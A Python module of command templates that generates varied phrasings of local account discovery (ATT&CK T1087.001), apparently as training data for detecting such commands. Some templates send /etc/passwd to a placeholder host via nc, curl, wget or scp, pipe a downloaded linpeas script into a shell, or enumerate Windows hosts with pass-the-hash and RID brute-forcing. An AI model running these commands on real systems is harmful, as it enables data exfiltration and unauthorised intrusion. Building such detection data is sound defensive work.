"""More phrasings of T1087.001 on Linux, macOS, ESXi and from Linux against Windows."""

from __future__ import annotations

from training.generators.grammar import parse_templates

UNIX_ACCOUNT_TEMPLATES = parse_templates(
    r"""
dscl-ssh bash: ssh ‹first›@‹ip› "dscl . «-list¦list¦readall¦ls» /Users"
dscl-localhost bash: «sudo ¦»dscl «localhost -list /Local/Default/Users¦/Local/Default -list /Users¦/Local/Default list /Users UniqueID»
dscl-awk bash: dscl . -list /Users UniqueID | awk '$2 «>= 500¦> 500¦== 0» {print $1}'
dscl-loop bash: for u in $(dscl . «list¦-list¦ls» /Users); do «id $u¦echo $u¦dscl . -read /Users/$u RealName»; done
dscl-out bash: /usr/bin/dscl . «-list¦readall¦-readall» /Users > ‹lfile›
dscl-grep bash: dscl . «list¦ls¦-list» /Users | grep -v «_¦'^_'¦daemon»
dscl-readall bash: dscl . -readall /Users «RealName UniqueID¦UserShell¦NFSHomeDirectory»
dscl-osascript bash: osascript -e 'do shell script "dscl . «list¦-list» /Users"'
dscl-search bash: dscl /Search «-list¦list¦readall» /Users
dscl-python bash: python3 -c "import subprocess; print(subprocess.getoutput('dscl . «list¦-list» /Users'))"
dscacheutil-out bash: dscacheutil -q user > ‹lfile›
dscacheutil-sudo bash: sudo /usr/bin/dscacheutil -q user
dscacheutil-ssh bash: ssh ‹first›@‹ip› dscacheutil -q user
dscacheutil-awk bash: dscacheutil -q user | «awk '/name/ {print $2}'¦grep -A 3 -B 2 -e uid:\ 5'[0-9][0-9]'¦grep -v '^_'»
dscacheutil-chain bash: dscacheutil -q user; dscl . list /Users; id
osquery-users bash: «osqueryi¦osqueryi --json¦sudo osqueryi» "select «*¦username,uid¦username,shell» from users;"
osquery-users-win cmd: osqueryi.exe "select «*¦username,uuid¦username,type» from users"
plist-users bash: ls «-la ¦»/var/db/dslocal/nodes/Default/users«/¦ | grep -v '^_'¦ | cut -d. -f1»
plist-users-plutil bash: for f in /var/db/dslocal/nodes/Default/users/*.plist; do «plutil -p $f¦echo $f¦defaults read $f name»; done
getent-sudo bash: sudo getent passwd
getent-awk bash: getent passwd | awk -F: '«$3 >= 1000 {print $1}¦{print $1":"$3}¦$3==0{print $1}»'
getent-grep bash: getent passwd | grep «-v nologin¦-E "bash|zsh"¦/home¦-c sh$»
getent-loop bash: for u in $(getent passwd | cut -d: -f1); do «groups $u¦id $u¦chage -l $u¦lastlog -u $u»; done
getent-python bash: python3 -c "import os; os.system('getent passwd')"
getent-out bash: getent passwd «>> ‹lfile›¦| tee ‹lfile›¦| gzip > ‹lfile›»
getent-named bash: getent passwd «root¦‹first›¦0¦1000¦‹user›»
getent-ansible bash: ansible all -i ‹lfile› -m «shell¦command» -a "«getent passwd¦cat /etc/passwd¦lslogins -u»"
getent-nc bash: «getent passwd¦cat /etc/passwd¦compgen -u» | nc ‹ip› ‹port›
getent-curl bash: getent passwd | curl -s -X POST --data-binary @- http://‹ip›:‹port›/
compgen-bash bash: bash -c "compgen -u«¦ | sort»"
compgen-alias bash: compgen -A user
compgen-grep bash: compgen -u | grep «-v ^_¦‹first›¦adm»
compgen-ssh bash: ssh ‹first›@‹ip› 'compgen -u«¦ | sort -u»'
compgen-loop bash: for u in $(compgen -u); do «id $u¦echo $u¦groups $u¦finger $u»; done
lslogins-sudo bash: sudo lslogins«¦ -u¦ -s¦ --user-accs¦ -a»
lslogins-out bash: lslogins --output=«USER,UID,SHELL¦USER,PWD-LOCK¦USER,LAST-LOGIN» > ‹lfile›
lslogins-ssh bash: ssh ‹first›@‹ip› lslogins«¦ -u¦ --user-accs¦ --colon»
lslogins-grep bash: lslogins «-u ¦--user-accs ¦»| «grep ‹first›¦awk '{print $2}'¦tail -n +2»
lslogins-named bash: lslogins «-f ¦-p ¦--failed ¦--pwd »‹first›
lslogins-chain bash: lslogins -u; lastlog; faillog -a
lastlog-sudo bash: sudo «/usr/bin/¦»lastlog«¦ -b ‹n›¦ -t ‹n›¦ -u 1000-2000»
lastlog-awk bash: lastlog | «awk '{print $1}'¦tail -n +2 | cut -d' ' -f1¦awk '!/Never/ {print $1}'¦sort»
lastlog-out bash: lastlog > ‹lfile›; cat /etc/passwd >> ‹lfile›
lastlog-ssh bash: ssh ‹first›@‹ip› "lastlog«¦ | grep -v Never¦ -t ‹n›»"
faillog-sudo bash: sudo faillog «-a¦-u ‹first›¦-t ‹n›»
faillog-grep bash: faillog -a | «grep -v '^Login'¦awk '{print $1}'¦sort¦less»
faillog-chain bash: faillog -a; lastlog; cut -d: -f1 /etc/passwd
finger-named bash: finger «‹first›¦-s ‹first›¦-m ‹user›¦root¦‹first›@localhost»
finger-remote bash: finger «-l ¦»«@‹ip›¦‹user›@‹ip›¦0@‹ip›¦root@‹ip›»
finger-loop bash: for u in $(cat ‹lfile›); do finger «-l ¦»$u«@‹ip›¦»; done
finger-tool bash: «./¦perl »finger-user-enum.pl -«U ‹lfile›¦u root» -t ‹ip›
chage-xargs bash: awk -F: '{print $1}' /etc/passwd | xargs -n1 «sudo ¦»chage -l
chage-while bash: getent passwd | cut -d: -f1 | while read u; do echo $u; chage -l $u; done
passwd-all bash: «sudo ¦»passwd «-Sa¦-S -a¦--status --all»
passwd-all-grep bash: sudo passwd -Sa | «grep ' P '¦awk '$2=="P"{print $1}'¦grep -v L»
passwd-all-ssh bash: ssh ‹first›@‹ip› "sudo passwd -S«a¦ -a»"
id-named bash: «/usr/bin/id¦id¦sudo id» «-un ¦-Gn ¦-nG ¦»«‹first›¦‹user›¦root¦www-data»
id-loop bash: for i in $(seq «0 100¦1000 1100¦500 600»); do id -nu $i «2>/dev/null¦2>&1»; done
id-xargs bash: cut -d: -f1 /etc/passwd | xargs -n1 id
id-chain bash: id; «w; cat /etc/passwd¦getent passwd¦compgen -u¦lslogins»
lsof-user-current bash: «lsof -u $(whoami)¦lsof -u $(id -un)¦user=$(whoami); lsof -u $user¦u=$(id -u -n) && lsof -u "$u"»
lsof-user-echo bash: username=$(«echo $HOME | awk -F'/' '{print $3}'¦id -u -n¦whoami») && lsof -u $username
cat-passwd-shell bash: «sh¦bash¦zsh¦dash» -c "«cat¦head -n 20¦tac¦less» /etc/passwd"
cat-passwd-copy bash: «cp /etc/passwd /tmp/.‹name›¦dd if=/etc/passwd of=/tmp/‹name›¦install -m 644 /etc/passwd ‹lfile›»
cat-passwd-shells bash: «tail -n ‹n›¦more¦nl¦egrep bash¦fgrep sh¦tac» /etc/passwd «| less¦> ‹lfile›¦| sort»
cat-passwd-vim bash: «vi -R¦view¦nano -v¦vim -M¦ed -s» /etc/passwd
cat-passwd-base64 bash: «base64 -w0¦xxd¦od -c¦strings¦hexdump -C¦rev» /etc/passwd
cat-passwd-wc bash: «wc -l¦sort -t: -k3 -n¦column -ts:¦tr ':' ' ' <¦paste -s» /etc/passwd
cat-passwd-redirect bash: «mapfile -t l < /etc/passwd; echo "${l[@]}"¦echo "$(</etc/passwd)"¦while read l; do echo $l; done < /etc/passwd¦exec 3</etc/passwd; cat <&3»
cat-passwd-uname bash: «uname -a¦hostname¦whoami¦id¦pwd» «;¦&&» cat /etc/passwd
cat-passwd-many bash: cat /etc/«issue¦os-release¦group¦hosts» /etc/passwd
cat-passwd-find bash: find /etc -name passwd -exec cat {} \;
cat-passwd-master bash +T1003.008: «cat¦less¦sudo cat» /etc/master.passwd
cat-passwd-windows cmd: «wsl cat /etc/passwd¦wsl -d Ubuntu -- getent passwd¦bash.exe -c "cat /etc/passwd"¦plink.exe -ssh ‹first›@‹ip› cat /etc/passwd¦ssh ‹first›@‹ip› cat /etc/passwd»
sudoers-passwd bash: sudo cat /etc/sudoers /etc/passwd
sudoers-grep bash: grep -v '^#' /etc/sudoers; «cut -d: -f1 /etc/passwd¦getent passwd¦compgen -u»
grep-passwd-root bash: «egrep¦fgrep¦grep -E¦grep -F» «':0:0:'¦"/bin/bash"¦'nologin'¦'/home/'» /etc/passwd
grep-passwd-count bash: grep -c «sh$¦bash¦home» /etc/passwd
sed-passwd-range bash: sed «-n '1,20p'¦'/nologin/d'¦-e 's/:.*$//' -e '/^#/d'¦-nE 's/^([^:]+).*sh$/\1/p'» /etc/passwd
sed-passwd-pipe bash: cat /etc/passwd | sed «'s/:.*//'¦-n 's/:x.*//p'¦'/false/d'»
sed-passwd-ssh bash: ssh ‹first›@‹ip› "sed 's/:.*//' /etc/passwd"
awk-passwd-printf bash: «awk¦gawk¦mawk» -F«: ¦":" »'«{printf "%s %s\n",$1,$3}¦length($2)>1{print $1}¦/bash$/{print $1}» /etc/passwd'
python-passwd bash: python3 -c "«print(open('/etc/passwd').read())¦[print(l.split(':')[0]) for l in open('/etc/passwd')]»"
python-pwd-loop bash: python3 -c "import pwd«, grp¦»; [print(u.pw_name, u.pw_uid) for u in pwd.getpwall()]"
python-pwd-script bash: python3 - <<< "import pwd; print(pwd.getpwall())"
python-pwd-remote bash: ssh ‹first›@‹ip› "python3 -c 'import pwd; print([p.pw_name for p in pwd.getpwall()])'"
python-pwd-names bash: python -c "import pwd; print('\n'.join(p.pw_name for p in pwd.getpwall()))" > ‹lfile›
perl-getpwent bash: perl -e 'while (@u = getpwent) { print "$u[0]\n" }'
perl-passwd-print bash: perl -«F: -ane 'print "$F[0]\n"'¦ne 'print unless /nologin/'¦pe 's/:.*//'¦lane 'print'» /etc/passwd
perl-getpwent-uid bash: perl -e '«while((my $n)=getpwent){print $n}¦print "$_\n" for map { (getpwuid($_))[0] } 1000..1100»'
ruby-passwd bash: ruby -retc -e '«Etc.passwd { |u| puts u.name }¦puts IO.read("/etc/passwd")¦Etc.passwd { |u| puts u.uid }»'
php-passwd bash: php -r '«echo file_get_contents("/etc/passwd");¦print_r(file("/etc/passwd"));¦readfile("/etc/passwd");¦print_r(posix_getpwuid(1000));»'
node-passwd bash: node -e "console.log(require('fs').readFileSync('/etc/passwd','utf8'))"
busybox-accounts bash: busybox «cat /etc/passwd | busybox cut -d: -f1¦grep -v nologin /etc/passwd¦sed 's/:.*//' /etc/passwd¦wc -l /etc/passwd»
docker-mount bash: «docker¦podman» run --rm -v /:/mnt «alpine¦busybox¦ubuntu» «cat /mnt/etc/passwd¦cut -d: -f1 /mnt/etc/passwd»
docker-accounts bash: «docker¦podman¦nerdctl» exec ‹word› «sh -c 'getent passwd'¦cut -d: -f1 /etc/passwd¦lslogins»
kubectl-accounts bash: kubectl exec ‹word›-‹n› -c ‹word› -- «sh -c "cat /etc/passwd"¦cut -d: -f1 /etc/passwd¦getent passwd root»
kubectl-debug bash: kubectl debug node/‹word› -it --image busybox -- cat /host/etc/passwd
kubectl-run bash: kubectl run ‹name› --rm -it --image alpine -- «cat /etc/passwd¦getent passwd»
nsenter-accounts bash: nsenter -t 1 -m «cat /etc/passwd¦getent passwd¦lslogins -u»
chroot-accounts bash: «sudo ¦»chroot /«mnt¦host¦hostfs» «cat /etc/passwd¦getent passwd¦lslogins -u¦compgen -u»
curl-file bash: curl «-s ¦»file:///etc/passwd«¦ -o ‹lfile›¦ | cut -d: -f1»
wget-passwd bash: wget -q «--post-file=/etc/passwd¦--post-data="$(cat /etc/passwd)"» http://‹ip›:‹port›/ -O /dev/null
scp-passwd bash: «scp /etc/passwd ‹first›@‹ip›:/tmp/¦rsync /etc/passwd ‹first›@‹ip›:/tmp/¦sftp ‹first›@‹ip› <<< "put /etc/passwd"¦tftp ‹ip› -c put /etc/passwd»
history-accounts text: #15‹pid›‹pid› «cat /etc/passwd¦getent passwd¦cut -d: -f1 /etc/passwd¦lslogins -u¦dscl . list /Users¦compgen -u»
esxcli-accounts-ssh bash: ssh root@‹ip› esxcli system account list
esxcli-accounts-format bash: esxcli --formatter=«csv¦json¦xml» system account list
esxcli-accounts-out bash: «/bin/¦»esxcli system account list «> ‹lfile›¦| grep -v root¦| awk '{print $1}'»
esxcli-accounts-remote bash: esxcli -s ‹ip› -u root -p '‹pass›' system account list
esxcli-accounts-permission bash: esxcli system permission list; esxcli system account list
esxcli-powercli powershell: (Get-EsxCli -VMHost ‹server›«.‹fqdn›¦» -V2).system.account.list.Invoke()
vim-cmd-accounts bash: vim-cmd vimsvc/auth/«entity_permissions vim.Folder:ha-folder-root¦permissions»; cat /etc/passwd
powercli-accounts powershell: Get-VMHostAccount«¦ -Server ‹server›¦ -User¦ | ft Id,Name»
enum4linux-all bash: «enum4linux¦enum4linux-ng¦perl enum4linux.pl¦python3 enum4linux-ng.py» -«U¦r¦R 500-1050¦a -U» «-u ‹user› -p '‹pass›' ¦»‹ip›
enum4linux-out bash: «enum4linux -U ‹ip›¦enum4linux-ng -U ‹ip› -oJ ‹name›¦enum4linux -r ‹server›» | tee ‹lfile›
enum4linux-loop bash: for h in $(cat ‹lfile›); do enum4linux«-ng¦» -U $h; done
enum4linux-docker bash: docker run -t enum4linux-ng -U ‹ip›
rpcclient-users bash: rpcclient -U «""%""¦"‹user›%‹pass›"¦''» ‹ip› -c «enumdomusers¦querydispinfo¦"enumdomusers;quit"¦"lsaenumsid"»
rpcclient-query bash: rpcclient -N -U "" ‹ip› -c "«queryuser 500¦queryuser ‹user›¦lookupnames administrator¦querydispinfo»"
rpcclient-loop bash: for i in $(seq 500 1100); do rpcclient -N -U "" ‹ip› -c "queryuser 0x$(printf '%x' $i)"; done
rpcclient-echo bash: echo «enumdomusers¦querydispinfo¦lsaenumsid» | rpcclient -U '‹user›%‹pass›' ‹ip›
rpcclient-hash bash: rpcclient --pw-nt-hash -U ‹user›%‹hash› ‹ip› -c enumdomusers
lookupsid bash: «lookupsid.py¦impacket-lookupsid¦python3 lookupsid.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip›« ‹pid›¦»
lookupsid-null bash: impacket-lookupsid «anonymous¦guest¦''»@‹ip› -no-pass
lookupsid-hash bash: «lookupsid.py¦impacket-lookupsid» -hashes :‹hash› ‹user›@‹ip›
lookupsid-out bash: «lookupsid.py¦impacket-lookupsid» ‹user›:'‹pass›'@‹ip› | grep SidTypeUser > ‹lfile›
lookupsid-opt bash: python3 /opt/impacket/examples/«lookupsid¦samrdump».py ‹user›:'‹pass›'@‹ip›
samrdump bash: «samrdump.py¦impacket-samrdump¦python3 samrdump.py» «-csv ¦»«‹domain›/¦»‹user›:'‹pass›'@«‹ip›¦‹server›»
samrdump-hash bash: «samrdump.py¦impacket-samrdump» -hashes :‹hash› ‹user›@‹ip›
samrdump-out bash: impacket-samrdump ‹ip› > ‹lfile›
cme-rid bash: «crackmapexec¦cme¦nxc¦netexec» smb «‹ip›¦‹server›» -u «guest¦''¦‹user›» -p '' --rid-brute« ‹pid›¦»
cme-users-hash bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip›/24 -u ‹user› -H ‹hash› «--local-auth --users¦--users¦--local-auth --rid-brute»
cme-users-out bash: «nxc¦netexec¦crackmapexec» smb ‹lfile› -u '' -p '' --users | tee ‹lfile›
cme-users-x bash: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm¦wmi» ‹ip› -u ‹user› -p '‹pass›' -«x 'net user'¦X 'Get-LocalUser'¦x 'wmic useraccount get name'»
nmap-users-args bash: nmap --script smb-enum-users --script-args smbusername=‹user›,smbpassword=‹pass› -p 445 ‹ip›
nmap-users-out bash: «sudo ¦»nmap -sU -sS --script smb-enum-users.nse -p U:137,T:139 ‹ip›
nmap-users-range bash: nmap -Pn -p139,445 --script=smb-enum-users«,smb-enum-shares¦» ‹ip›/24 -oN ‹lfile›
nmap-users-windows cmd: ‹dir›\nmap.exe -p445 --script smb-enum-users ‹ip›
exec-accounts bash: «psexec.py¦wmiexec.py¦smbexec.py¦impacket-wmiexec¦atexec.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip› "net user«¦ administrator»"
net-rpc-users bash: net rpc user«¦ -I ‹ip›¦ -S ‹server›» -U '‹user›%‹pass›'
net-rpc-shell bash: net rpc «user info ‹user›¦user» -I ‹ip› -U «‹user›%‹pass›¦% »
evil-winrm bash: evil-winrm -i ‹ip› -u ‹user› -p '‹pass›' <<< "«net user¦Get-LocalUser¦net users»"
linpeas-users bash: «./linpeas.sh -o users_information¦curl -sL http://‹ip›/linpeas.sh | sh -s -- -o users_information¦bash LinEnum.sh; cat /etc/passwd»
getfacl-home bash: ls -la /home; cat /etc/passwd | grep /home
osquery-users-ssh bash: ssh ‹first›@‹ip› 'osqueryi "select username, uid, shell from users"'
osquery-users-csv bash: osqueryi --csv "select username from users where uid >= «500¦1000»" > ‹lfile›
osquery-users-groups bash: osqueryi "select u.username, g.groupname from users u join user_groups using(uid) join groups g using(gid)"
plist-users-find bash: «find¦sudo find» /var/db/dslocal/nodes/Default/users -name '*.plist'
plist-users-defaults bash: sudo «defaults read¦plutil -p» /var/db/dslocal/nodes/Default/users/«‹first›¦root».plist
plist-users-ssh bash: ssh ‹first›@‹ip› "sudo ls /var/db/dslocal/nodes/Default/users"
smb-lookupsid-text text: msf6 auxiliary(scanner/smb/«smb_lookupsid¦smb_enumusers») > run rhosts=‹ip›
smb-lookupsid-echo bash: echo "use auxiliary/scanner/smb/«smb_lookupsid¦smb_enumusers»; run" | msfconsole -q
smb-lookupsid-rc bash: msfconsole -x "use scanner/smb/«smb_lookupsid¦smb_enumusers»; set rhosts ‹ip›/24; exploit"
rpcclient-display bash: rpcclient -U '‹user›%‹pass›' ‹ip› --command="«querydispinfo¦queryuser 0x1f4¦enumdomusers¦lsaenumsid»"
rpcclient-domain bash: rpcclient -W ‹domain› -U '‹user›%‹pass›' ‹server› -c "«querydispinfo¦queryuser ‹user›¦lsaenumsid»"
rpcclient-prompt text: rpcclient $> «enumdomusers¦querydispinfo¦queryuser 500¦lsaenumsid¦queryuser ‹user›»
rpcclient-file bash: rpcclient -A ‹lfile› ‹ip› -c «querydispinfo¦enumdomusers¦'queryuser 500'» | tee ‹lfile›
perl-getpwent-list bash: perl -le 'print «$_->[0] while $_ = [getpwent] and @$_¦join ",", map { (getpwent)[0] } 1..50»'
perl-getpwent-ssh bash: ssh ‹first›@‹ip› "perl -e 'while (@u = getpwent) { print \$u[0] }'"
perl-getpwent-out bash: perl -MUser::pwent -e 'while (my $u = getpwent) { print $u->name, "\n" }' > ‹lfile›
finger-enum-list bash: finger-user-enum«.pl¦» -U ‹lfile› -«T ‹lfile›¦t ‹ip›»
linpeas-users-out bash: ./linpeas.sh -o users_information > ‹lfile›
linpeas-users-ssh bash: ssh ‹first›@‹ip› "bash -s -- -o users_information" < linpeas.sh
linpeas-users-wget bash: wget -qO- http://‹ip›/linpeas.sh | bash -s -- -o users_information
bsd-passwd bash: «cut -d: -f1¦awk -F: '{print $1}'» /etc/master.passwd
bsd-passwd-hashes bash +T1003.008: «grep -v nologin¦tail -n 20¦less» /etc/master.passwd
bsd-passwd-ssh bash +T1003.008: ssh root@‹ip› "cat /etc/master.passwd"
bsd-pw bash: «pw usershow -a¦pw usershow -a | cut -d: -f1¦sudo pw usershow -a -7»
powercli-accounts-named powershell: «Get-VMHostAccount -User -Server ‹server›¦Get-VMHostAccount | select Id,ShellAccessEnabled¦Connect-VIServer ‹server›; Get-VMHostAccount»
"""
)
